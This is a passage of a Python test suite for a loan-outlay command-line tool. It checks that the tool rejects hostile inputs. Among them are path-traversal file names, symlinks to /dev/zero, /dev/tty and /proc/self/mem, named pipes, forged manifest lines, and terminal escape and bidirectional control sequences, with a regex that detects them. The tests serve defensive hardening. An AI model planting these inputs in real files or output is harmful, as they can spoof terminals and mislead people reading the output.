        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(LOAN.strip().split(",") + ["index.series", "calendar"])
        for trick in self.tricks:
            writer.writerow([trick, "incheon.startup", 10000000, "3.5%", "2018-01-15", 24, "bullet", trick, 1, 12, trick, "", ""])
            writer.writerow([trick + "p", trick, 10000000, "3.5%", "2018-01-15", 24, "bullet", trick, 1, 12, trick, "", ""])
            writer.writerow([trick + "s", "incheon.startup", 10000000, "", "2018-01-15", 24, "bullet", trick, 1, 12, trick, trick, trick])
        self.inner("b.csv", out.getvalue())
        self.inner("e.csv", "loan_id,kind,on,reason\n" + "".join(f"{trick},stop_subsidy,2018-05-01,{trick}\n" for trick in self.tricks))
        done = self.closed("outlay", "b.csv", "--events", "e.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "out", "--format", "json", status=(6,))
        said = json.loads(done.stdout)
        self.assertEqual((said["rows_in"], said["used"]), (3 * len(self.tricks), len(self.tricks)))
        for words in ("verify", "out", "--replay"), ("report", "out", "--csv", "r.csv"), ("prove", "out"), ("explain", "out", "--loan", ".."):
            self.closed(*words, status=(0,))

    def test_terms_facts_and_late(self):
        for trick in self.tricks:
            self.inner("t.json", json.dumps({"product": trick, "principal": trick, "index": {"series": trick}, "calendar": trick}))
            self.closed("schedule", "t.json", status=(3,))
            self.inner("t.json", json.dumps({"due_on": "2018-04-16", "paid_on": "2018-05-31", "rates": trick, "legal_caps": trick}))
            self.closed("late", "t.json", status=(3,))

    def test_scenarios(self):
        """A-1: names of files beside the scenario are names, not paths; links, pipes and devices are not followed."""
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text()
        (self.folder / "inner" / "link.csv").symlink_to("../canary.csv")
        (self.folder / "inner" / "link.yaml").symlink_to("../canary.yaml")
        (self.folder / "inner" / "zero.csv").symlink_to("/dev/zero")
        os.mkfifo(self.folder / "inner" / "pipe.csv")
        for trick in [*self.tricks, "link.csv", "zero.csv", "pipe.csv", "inner/../x.csv"]:
            quoted = json.dumps(trick)
            for changed in (good + f"base: {{portfolio: {{file: {quoted}}}}}\n", good + f"base: {{portfolio: {{file: x.csv}}, events: {{file: {quoted}}}}}\n",
                            good.replace("assume: [", f"assume: [{quoted}, "), good.replace("product: incheon.soho-finance", f"product: {quoted}"),
                            good.replace("id: half-a-point", f"id: {quoted}")):
                self.inner("s.yaml", changed)
                is_id = trick in ("link.csv", "zero.csv", "pipe.csv")  # a name that no file is sought by
                self.closed("scenario", "run", "s.yaml", "--out", "out", status=(0, 3) if is_id else (3,))
                shutil.rmtree(self.folder / "inner" / "out", ignore_errors=True)
        self.inner("s.yaml", good.replace("assume: [", "assume: [link.yaml, "))
        self.closed("scenario", "run", "s.yaml", "--out", "out", status=(3,))

    def test_catalogues(self):
        """C-6: what a catalogue's file cites is a name; a pipe, a device or a folder among its files is named, not waited for."""
        shutil.copytree(SOURCE / "tests" / "alloc" / "catalogue", self.folder / "inner" / "shop")
        product = self.folder / "inner" / "shop" / "products" / "t.loan.yaml"
        good = product.read_text()
        for trick in self.tricks:
            product.write_text(good.replace("document: d", f"document: {json.dumps(trick)}"))
            self.closed("products", "--catalogue", "shop", status=(3,))
            product.write_text(good.replace("product: t.loan", f"product: {json.dumps(trick)}"))
            self.closed("products", "--catalogue", "shop", status=(3,))
        product.write_text(good)
        self.inner("b.csv", plain_book([("a", "x")]))
        other = self.folder / "inner" / "shop" / "products" / "other.yaml"
        for what, make in {"a pipe": lambda: os.mkfifo(other), "a folder": other.mkdir, "nothing": lambda: other.symlink_to("nowhere"),
                           "no end": lambda: other.symlink_to("/dev/zero"), "itself": lambda: other.symlink_to("other.yaml"),
                           "a terminal": lambda: other.symlink_to("/dev/tty"), "memory": lambda: other.symlink_to("/proc/self/mem")}.items():
            make()
            for words in ("products", "--catalogue", "shop"), ("outlay", "b.csv", *YEARS, "--out", "out", "--catalogue", "shop"):
                answer = self.in_shop(words)
                self.assertEqual(answer.status, 3, (what, words, answer.err))
                self.assertIn(b"other.yaml", answer.err, (what, words))
            shutil.rmtree(other) if other.is_dir() and not other.is_symlink() else other.unlink()
        self.assertEqual(self.in_shop(("products", "--catalogue", "shop")).status, 0)

    def in_shop(self, words):
        folder, self.folder = self.folder, self.folder / "inner"
        try:
            return self.icha(*words)
        finally:
            self.folder = folder


# ---- terminals ----

STEERS = ("\x1b[2J", "\x1b]0;x\x07", "\x9b2J", "\u202e", "\u2066", "\u2069", "\u200f", "\u061c", "\u2028", "\x7f", "\x08")
HARM = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\u061c]")


class TerminalTest(HostileCase):
    """X-4: no text from data steers the terminal, turns the order of what is read, or forges a line."""

    def harmless(self, *words, language="en"):
        answer = self.icha(*words, "--format", "table", "--lang", language)
        found = HARM.search(answer.text())
        self.assertIsNone(found, (words, found, answer.text()[max(0, found.start() - 40):found.end() + 40] if found else ""))
        return answer

    def test_portfolio(self):
        allowed = [s for s in STEERS if s >= "\x80"]  # the others are held, which test_rows shows
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(LOAN.strip().split(","))
        for n, steer in enumerate(STEERS):
            writer.writerow([f"a{steer}{n}", "incheon.startup", 10000000, "3.5%", "2018-01-15", 24, "bullet", f"p{steer}", 1, 12, f"b{steer}"])
            writer.writerow([f"h{steer}{n}", f"x{steer}", f"1{steer}", "3.5%", "2018-01-15", 24, f"{steer}", "p", 1, 12, f"b{steer}"])
        self.write("b.csv", out.getvalue())
        self.write("e.csv", "loan_id,kind,on,reason\n" + "".join(f"a{s}{STEERS.index(s)},stop_subsidy,2018-05-01,r{s}\n" for s in allowed))
        answer = self.harmless("outlay", "b.csv", "--events", "e.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "run")
        self.assertEqual(answer.status, 6, answer.err)
        for words in ("report", "run"), ("verify", "run", "--replay"), ("prove", "run"):
            self.harmless(*words, language="ko")
        with open(self.folder / "run" / "rows.csv", encoding="utf-8", newline="") as file:
            used = {row["loan_id"] for row in csv.DictReader(file)}
        self.assertTrue(used)
        for loan in used:
            self.harmless("explain", "run", "--loan", loan)

    def test_a_hostile_folder(self):
        """M-2: names of files that came, and what a manifest says of itself."""
        self.write("b.csv", plain_book([("a", "x"), ("b", "y")]))
        self.icha("outlay", "b.csv", *YEARS, *CONVENTIONS, "--rows", "--out", "run")
        for steer in STEERS:
            (self.folder / "run" / f"x{steer}\nintegrity: holds").write_bytes(b"")
            (self.folder / "run" / os.fsdecode(b"\xff\x9b" + steer.encode())).write_bytes(b"")
        self.assertEqual(self.harmless("verify", "run").status, 1)
        path = self.folder / "run" / "manifest.json"
        whole = json.loads(path.read_text())
        for steer in STEERS:
            for change in (lambda m: m.update(assumptions=[f"a{steer}\nschema: holds"]), lambda m: m["determinants"].update(command=f"outlay{steer}"),
                           lambda m: m.update(schema=f"x{steer}"), lambda m: m["determinants"]["assumptions"][0].update(name=f"n{steer}"),
                           lambda m: m["results"][0].update(file=f"o{steer}.csv"), lambda m: m["determinants"].update(options={f"k{steer}": f"v{steer}"}),
                           lambda m: m["counts"].update({f"k{steer}": steer}), lambda m: m.update(run_id=f"r{steer}")):
                manifest = json.loads(json.dumps(whole))
                change(manifest)
                path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2) + "\n")
                for command in "verify", "report", "replay":
                    self.assertNotEqual(self.harmless(command, "run").status, 0)

    def test_documents_and_catalogues(self):
        """Keys and values of TERMS and FACTS, names in a catalogue, texts of a scenario."""
        shop = SOURCE / "tests" / "screening" / "catalogue"
        good = (SOURCE / "examples" / "scenarios" / "half-a-point.yaml").read_text()
        shutil.copytree(SOURCE / "tests" / "alloc" / "catalogue", self.folder / "shop")
        product = self.folder / "shop" / "products" / "t.loan.yaml"
        text = product.read_text()
        for steer in STEERS:
            for document in {f"k{steer}\nx": 1}, {"principal": f"1{steer}"}, {"product": f"p{steer}"}, {"rate": f"{steer}%"}, {"index": {"series": steer}}:
                self.write("t.json", json.dumps(document))
                self.assertEqual(self.harmless("schedule", "t.json").status, 3)
                self.assertEqual(self.harmless("late", "t.json").status, 3)
                self.assertEqual(self.harmless("screen", "t.json", "--product", "test.shop-loan", "--on", "2018-03-14", "--catalogue", shop).status, 3)
            for changed in (good.replace("id: half-a-point", f"id: {json.dumps(steer)}"), good + f"{json.dumps('k' + steer)}: 1\n",
                            good.replace("Subsidy lower", f"S{json.dumps(steer)[1:-1]}"), good.replace("mode: expected", f"mode: {json.dumps(steer)}")):
                self.write("s.yaml", changed)
                for words in ("check", "s.yaml"), ("run", "s.yaml", "--out", "out"):
                    self.harmless("scenario", *words)
                shutil.rmtree(self.folder / "out", ignore_errors=True)
            product.write_text(re.sub(r"name: \{ko: [^,}]*", lambda found: "name: {ko: " + json.dumps("x" + steer), text, count=1))
            for words in ("products",), ("show", "t.loan"), ("show", f"t{steer}"):
                self.harmless(*words, "--catalogue", "shop", language="ko")
            self.harmless("catalogue", "check", product.relative_to(self.folder))
            self.harmless(f"x{steer}")


if __name__ == "__main__":
    unittest.main()
